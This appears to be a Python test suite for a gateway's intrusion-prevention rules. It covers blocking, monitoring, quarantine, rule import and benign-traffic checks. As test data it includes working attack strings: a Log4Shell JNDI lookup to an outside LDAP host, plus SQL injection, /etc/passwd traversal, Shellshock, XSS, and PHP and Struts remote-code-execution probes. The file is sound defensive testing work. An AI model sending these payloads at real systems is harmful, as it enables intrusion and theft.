"""Attacks and ordinary traffic through a gateway with the starter set of IPS rules."""

import base64
import concurrent.futures
import hashlib
import http.client
import json
import os
import pathlib
import re
import signal
import socket
import time

from harness import CLIENT, SERVER, echo, policy, rule, services, unittest
from inspecting import INSPECTED, InspectingTest, profile

RAW_LOG4SHELL = b"GET /?q=${jndi:ldap://198.51.100.66/a} HTTP/1.1\r\nHost: server.lab.example\r\n\r\n"
NUM_PAGES, PAGES_A_CONNECTION = 10_000, 50
BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
           "Accept": "text/html,application/xhtml+xml", "Accept-Language": "ja,en;q=0.5", "Cookie": "seen=1; theme=dark"}
SCANNER = tuple(line.replace(b"|", b"\r\n") for line in (
    b"GET /.git/config HTTP/1.1|User-Agent: curl/7.88|", b"GET /.env HTTP/1.1|", b"GET /?id=1'%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1|",
    b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1|", b"GET /static/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1|",
    b"GET /cgi-bin/status HTTP/1.1|User-Agent: () { :; }; /bin/bash -c 'id'|",
    b"GET / HTTP/1.1|User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)|",
    b"GET / HTTP/1.1|User-Agent: Mozilla/5.00 (Nikto/2.1.6)|",
    b"GET /?x=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1|",
    b"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1|",
    b"GET /index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array HTTP/1.1|",
    b"GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/ HTTP/1.1|"))
OWN_RULE = ('drop http any any -> any any (msg:"ours: not for guests"; flow:to_server; http.uri; '
            'content:"/forbidden"; sid:1000001; rev:3;)')


def signature_ids(records):
    return {record["alert"]["signature_id"] for record in records}


class Ips(InspectingTest):
    wanted_services = (services.web, echo(7777))

    def test_an_attack_is_dropped_and_the_event_names_the_rule(self):
        self.assertIsNotNone(self.answer("/"))
        for address in (SERVER.ipv4, SERVER.ipv6):
            with self.subTest(address=address):
                self.seen = len(self.events("alert"))
                self.assertIsNone(self.attack(address))
                alert = self.eventually(self.alerts, "an alert")[0]
                self.assertEqual(alert["alert"]["action"], "blocked")
                self.assertIn("Log4Shell", alert["alert"]["signature"])
                self.assertIn("jndi", alert["http"]["url"])
                self.assertIn("CVE", json.dumps(alert["alert"]).upper())
        self.assertIsNotNone(self.answer("/"))

    def test_damaged_compiled_rules_are_compiled_again(self):
        compiled = [path for path in (pathlib.Path(self.lab.directory) / "state/ips").iterdir() if path.is_file()]
        self.assertTrue(compiled)
        for path in compiled:
            content = bytearray(path.read_bytes())
            content[len(content) // 2] ^= 0xff
            path.write_bytes(content)
        os.kill(self.gateway.dataplane("status")["pid"], signal.SIGKILL)
        self.eventually(lambda: self.answer("/") == 200, "pages after the restart", timeout=90)
        self.assertIsNone(self.attack())

    def test_one_byte_a_segment_is_no_way_around(self):
        outcome, connection = self.try_connect(SERVER.ipv4, 80)
        self.assertEqual(outcome, "open")
        self.addCleanup(connection.close)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in RAW_LOG4SHELL:
            connection.send(bytes([byte]))
        connection.settimeout(2)
        with self.assertRaises((TimeoutError, ConnectionResetError)):
            self.fail(f"answered: {connection.recv(100)}")
        self.assertTrue(self.eventually(self.alerts, "an alert"))

    def test_a_profile_that_monitors_reports_and_lets_through(self):
        self.apply_inspection(action="monitor")
        self.assertIsNotNone(self.attack())
        alert = self.eventually(self.alerts, "an alert")[0]
        self.assertEqual(alert["alert"]["action"], "allowed")

    def test_a_rule_can_be_excluded_or_only_watched(self):
        self.apply_inspection(action="monitor")
        self.assertIsNotNone(self.attack())
        blamed = signature_ids(self.eventually(self.alerts, "an alert"))
        self.seen = len(self.events("alert"))
        self.apply_inspection(monitored_rules=sorted(map(str, blamed)))
        self.assertIsNotNone(self.attack())
        self.eventually(self.alerts, "an alert")
        self.apply_inspection(excluded_rules=sorted(map(str, blamed)))
        self.seen = len(self.events("alert"))
        self.assertIsNotNone(self.attack())
        self.apply_inspection(enabled=False)
        self.assertIsNotNone(self.attack())
        time.sleep(0.3)
        self.assertEqual(self.alerts(), [])

    def test_a_flow_whose_rule_has_no_profile_is_not_looked_at(self):
        self.apply(rule("plain", "allow"), profiles=profile())
        self.assertIsNotNone(self.attack())

    def test_an_own_rule_acts_with_its_policy(self):
        self.assertIsNotNone(self.answer("/forbidden"))
        self.apply_inspection(OWN_RULE)
        self.assertIsNone(self.answer("/forbidden"))
        self.assertIsNotNone(self.answer("/"))
        self.assertIn(1000001, signature_ids(self.eventually(self.alerts, "an alert")))
        self.apply_inspection()
        self.assertIsNotNone(self.answer("/forbidden"))

    def test_a_wrong_rule_is_refused_with_its_line(self):
        yaml = policy(INSPECTED, profiles=profile(), ips_rules=[OWN_RULE, 'drop http any any -> any any (contents:"x"; sid:2;)'])
        answer = self.gateway.control("policy.apply", yaml=yaml, comment="wrong")
        self.assertFalse(answer["ok"])
        line = next(n for n, text in enumerate(yaml.splitlines(), 1) if "contents" in text)
        self.assertEqual(answer["diagnostics"][0]["line"], line, answer)
        self.assertIn("contents", answer["diagnostics"][0]["message"])
        self.assertIsNone(self.attack())  # what was in force still is

    def test_a_change_of_policy_keeps_what_was_read_of_a_stream(self):
        outcome, connection = self.try_connect(SERVER.ipv4, 80)
        self.assertEqual(outcome, "open")
        self.addCleanup(connection.close)
        half = RAW_LOG4SHELL.index(b"jndi") + 2
        connection.send(RAW_LOG4SHELL[:half])
        time.sleep(0.1)
        self.apply_inspection(OWN_RULE)  # other rules, compiled anew
        connection.send(RAW_LOG4SHELL[half:])
        connection.settimeout(2)
        with self.assertRaises((TimeoutError, ConnectionResetError)):
            self.fail(f"answered: {connection.recv(100)}")

    def test_an_exception_by_address_lets_an_attack_by(self):
        self.apply_inspection(excluded_traffic=[f"all from 192.0.2.0/24 to {SERVER.ipv4}"])
        self.assertIsNone(self.attack())
        self.apply_inspection(excluded_traffic=[f"all from {CLIENT.ipv4} to {SERVER.ipv4}"])
        self.seen = len(self.events("alert"))
        self.assertIsNotNone(self.attack())
        self.assertIsNone(self.attack(SERVER.ipv6))
        self.assertTrue(all(":" in alert["src_ip"] for alert in self.eventually(self.alerts, "an alert")))
        self.apply_inspection(monitored_traffic=[f"all to {SERVER.ipv4}"])
        self.assertIsNotNone(self.attack())

    def test_an_administrator_sets_variables(self):
        rule_text = ('drop http any any -> $SHOPS any (msg:"ours: not for guests"; http.uri; content:"/forbidden"; '
                     'sid:1000002;)')
        refused = self.gateway.control("policy.apply", comment="undefined",
                                       yaml=policy(INSPECTED, profiles=profile(), ips_rules=[rule_text]))
        self.assertFalse(refused["ok"])
        self.assertIn("$SHOPS is not defined", refused["diagnostics"][0]["message"])
        for shops, is_dropped in ((SERVER.ipv4, True), ("192.0.2.1", False)):
            self.apply(INSPECTED, profiles=profile(), ips_rules=[rule_text], ips_variables={"SHOPS": shops})
            self.assertEqual(self.answer("/forbidden") is None, is_dropped)

    def quarantines(self):
        return [record["quarantine"] for record in self.events("quarantine")[self.quarantines_before:]]

    def test_an_attacker_is_cut_off_for_a_time_and_can_be_released(self):
        self.quarantines_before = len(self.events("quarantine"))
        self.addCleanup(self.cli, "quarantine", "release", "--all", check=False)
        self.apply_inspection(quarantine_seconds=300)
        self.assertIsNone(self.attack())
        self.assertIsNone(self.answer("/"))
        self.assertFalse(self.ping(SERVER.ipv4))
        self.assertIsNotNone(self.answer("/", SERVER.ipv6))
        self.apply_inspection(quarantine_seconds=2)
        self.assertIsNone(self.answer("/"))
        listed = json.loads(self.cli("--json", "quarantine", "list").stdout)["sources"]
        self.assertEqual([source["address"] for source in listed], [CLIENT.ipv4])
        self.cli("quarantine", "release", CLIENT.ipv4)
        self.assertIsNotNone(self.answer("/"))
        self.assertNotEqual(self.cli("quarantine", "release", CLIENT.ipv4, check=False).returncode, 0)
        ended = self.eventually(lambda: [q for q in self.quarantines() if q["state"] == "ended"], "an end")
        self.assertEqual([one["reason"] for one in ended], ["released"])
        self.assertIsNone(self.attack())
        self.eventually(lambda: self.answer("/"), "the end of two seconds")
        self.eventually(lambda: len(self.quarantines()) == 4, "both ends of both")
        self.assertEqual([q["state"] for q in self.quarantines()], ["begun", "ended"] * 2)
        self.assertEqual(self.quarantines()[3]["reason"], "expired")

    def test_a_scanner_gets_no_answer_and_every_event_names_its_rule(self):
        self.apply_inspection(minimum_severity="low")
        for request in SCANNER:
            with self.subTest(request):
                self.seen = len(self.events("alert"))
                outcome, connection = self.try_connect(SERVER.ipv4, 80)
                self.assertEqual(outcome, "open")
                with connection:
                    connection.sendall(request + b"Host: server.lab.example\r\n\r\n")
                    with self.assertRaises((TimeoutError, ConnectionResetError)):
                        self.fail(f"answered: {connection.recv(100)}")
                alerts = self.eventually(self.alerts, "an alert")
                self.assertTrue(any(one["alert"]["action"] == "blocked" for one in alerts), alerts)

    def test_the_command_line_knows_packs_and_costs(self):
        self.attack()
        listed = json.loads(self.cli("--json", "content", "list").stdout)["packs"]
        self.assertIn("web-servers.rules", {pack["name"] for pack in listed if pack["shipped"]})
        top = json.loads(self.cli("--json", "rules", "top").stdout)
        self.assertGreater(top["rules_in_force"], 300)
        self.assertTrue(any(entry["matches"] for entry in top["rules"]))
        pack = self.lab.directory / "guests.rules"
        pack.write_text(OWN_RULE + "\n")
        self.addCleanup(self.cli, "content", "remove", "guests.rules", check=False)
        self.cli("content", "import", pack)
        self.assertIsNone(self.answer("/forbidden"))
        self.cli("content", "remove", "guests.rules")
        self.assertIsNotNone(self.answer("/forbidden"))
        refused = self.cli("content", "remove", "guests.rules", check=False)
        self.assertNotEqual(refused.returncode, 0)
        self.assertRegex(refused.stderr, re.escape("guests.rules"))

    def test_files_that_rules_load_are_imported_with_them(self):
        pack = self.lab.directory / "sets.rules"
        (self.lab.directory / "lists").mkdir()
        (self.lab.directory / "lists/secret.lst").write_text("# paths\n" + base64.b64encode(b"/secret").decode() + "\n")
        pack.write_text('drop http any any -> any any (msg:"ours: from a list"; flow:to_server; http.uri; '
                        "dataset:isset,secret,type string,load lists/secret.lst; sid:1000002;)\n"
                        'alert http any any -> any any (http.uri; dataset:isset,none,type string,load lists/none.lst; sid:1000003;)\n'
                        'alert http any any -> any any (http.uri; dataset:isset,far,type string,load ../far.lst; sid:1000004;)\n')
        self.addCleanup(self.cli, "content", "remove", "sets.rules", check=False)
        said = self.cli("content", "import", pack).stderr
        self.assertIn("sets.rules:2:1: rule 1000003: file lists/none.lst is not there", said)
        self.assertIn("sets.rules:3:1: rule 1000004: file ../far.lst is outside of the folder of the rules", said)
        self.assertIn("warning: IPS rules: sets.rules:2: rule 1000003: file lists/none.lst is not there", said)
        self.assertIsNone(self.answer("/secret"))
        self.assertIsNotNone(self.answer("/public"))
        names = {one["name"] for one in json.loads(self.cli("--json", "content", "list").stdout)["packs"]}
        self.assertIn("sets.rules/lists/secret.lst", names)
        self.cli("content", "remove", "sets.rules")
        self.assertIsNotNone(self.answer("/secret"))
        names = {one["name"] for one in json.loads(self.cli("--json", "content", "list").stdout)["packs"]}
        self.assertNotIn("sets.rules/lists/secret.lst", names)

    def test_a_file_is_known_by_its_digests(self):
        page = self.lab.run("client", "curl", "-s", "-m", 3, f"http://{SERVER.ipv4}/").stdout.encode()
        for sid, name in enumerate(("md5", "sha1", "sha256"), 1000010):
            with self.subTest(name=name):
                digest = hashlib.new(name, page).digest().hex(" ")
                self.apply_inspection(
                    f'drop http any any -> any any (flow:to_client; file.{name}; content:"|{digest}|"; sid:{sid};)')
                self.answer("/")
                self.eventually(lambda: sid in signature_ids(self.alerts()), "an alert")

    def test_reputation_comes_with_its_pack_and_is_for_own_rules_too(self):
        folder = self.lab.directory / "reputation"
        folder.mkdir(exist_ok=True)
        (folder / "bad.categories").write_text("1,BadHosts,Known bad hosts\n")
        (folder / "bad.reputation").write_text(f"{CLIENT.ipv4},1,100\n192.0.2.1,2,100\n")
        pack = folder / "reputation.rules"
        pack.write_text('drop http any any -> any any (http.uri; content:"/guarded"; iprep:src,BadHosts,>,50; sid:1000020;)\n')
        self.addCleanup(self.cli, "content", "remove", pack.name, check=False)
        said = self.cli("content", "import", pack).stderr
        self.assertIn("reputation.rules/bad.reputation:2: no category has the number 2", said)
        self.assertIsNone(self.answer("/guarded"))
        self.assertIsNotNone(self.answer("/guarded", SERVER.ipv6))
        self.assertIsNotNone(self.answer("/own"))
        self.apply_inspection('drop http any any -> any any (http.uri; content:"/own"; iprep:any,BadHosts,>,50; sid:1000021;)')
        self.assertIsNone(self.answer("/own"))
        self.cli("content", "remove", pack.name)
        self.assertIsNotNone(self.answer("/own"))

    def test_a_rule_asks_for_the_country_of_an_address(self):
        abroad = {"US": "198.51.100.10", "KP": "203.0.113.10"}
        self.apply_inspection('drop http any any -> any any (http.uri; content:"/"; geoip:dst,US; sid:1000030;)')
        self.assertIsNone(self.answer("/", abroad["US"]))
        self.assertIsNotNone(self.answer("/", abroad["KP"]))
        self.assertIsNotNone(self.answer("/"))

    def test_what_a_keyword_does_not_do_is_told(self):
        answer = self.apply_inspection('alert http any any -> any any (http.uri; content:"/zzz"; filestore; sid:1000040;)')
        self.assertTrue(any("1000040" in one and "no effect here: filestore" in one for one in answer["warnings"]), answer)

    def test_a_profile_has_what_its_flows_say_as_events(self):
        path = "/one-of-the-records"

        def told(kind):
            return [one for one in self.events(kind) if one.get("http", {}).get("url", "").startswith(path)]

        for wanted, kinds in (("none", set()), ("files", {"fileinfo"}), ("all", {"fileinfo", "http"})):
            with self.subTest(wanted=wanted):
                self.apply_inspection(protocol_records=wanted)
                url = f"{path}-{wanted}"
                self.assertIsNotNone(self.answer(url))
                self.attack()  # its alert stands behind all records of the page before
                self.eventually(self.alerts, "an alert")
                self.seen = len(self.events("alert"))
                for kind in ("http", "fileinfo"):
                    urls = {one["http"]["url"] for one in told(kind)}
                    if kind in kinds:
                        self.eventually(lambda k=kind, u=url: u in {one["http"]["url"] for one in told(k)}, kind)
                    else:
                        self.assertNotIn(url, urls)

    def test_bypass_leaves_the_rest_of_a_connection_alone(self):
        self.apply_inspection('alert tcp any any -> any 7777 (content:"free"; bypass; sid:1000050;)',
                              'drop tcp any any -> any 7777 (content:"forbidden"; sid:1000051;)', monitored_rules=["1000050"])
        for first, passes in ((b"begin", False), (b"free", True)):
            with self.subTest(first=first):
                outcome, connection = self.try_connect(SERVER.ipv4, 7777)
                self.assertEqual(outcome, "open")
                with connection:
                    connection.settimeout(2)
                    connection.send(first)
                    self.assertEqual(connection.recv(100), first)
                    connection.send(b"forbidden")
                    if passes:
                        self.assertEqual(connection.recv(100), b"forbidden")
                    else:
                        self.assertRaises((TimeoutError, ConnectionResetError), connection.recv, 100)


class OrdinaryPages(InspectingTest):
    """On a gateway of their own: attacks before would be sent again by their client."""

    def test_ten_thousand_ordinary_pages_pass(self):
        self.apply_inspection(minimum_severity="low")
        with concurrent.futures.ThreadPoolExecutor(4) as browsers:
            answered = sum(browsers.map(self.browse, range(NUM_PAGES // PAGES_A_CONNECTION)))
        self.assertEqual(answered, NUM_PAGES)
        self.assertEqual(self.alerts(), [])

    def browse(self, number):
        """Pages over one connection; how many were answered."""
        browser = http.client.HTTPConnection(SERVER.ipv6 if number % 2 else SERVER.ipv4)
        browser.sock = self.try_connect(SERVER.ipv6 if number % 2 else SERVER.ipv4, 80, timeout=10)[1]
        browser.auto_open = 0
        for page in range(PAGES_A_CONNECTION):
            browser.request("GET", f"/?q=weather+in+tokyo&page={page}&session={number:08x}", headers=BROWSER)
            browser.getresponse().read()
        browser.close()
        return PAGES_A_CONNECTION


if __name__ == "__main__":
    unittest.main()
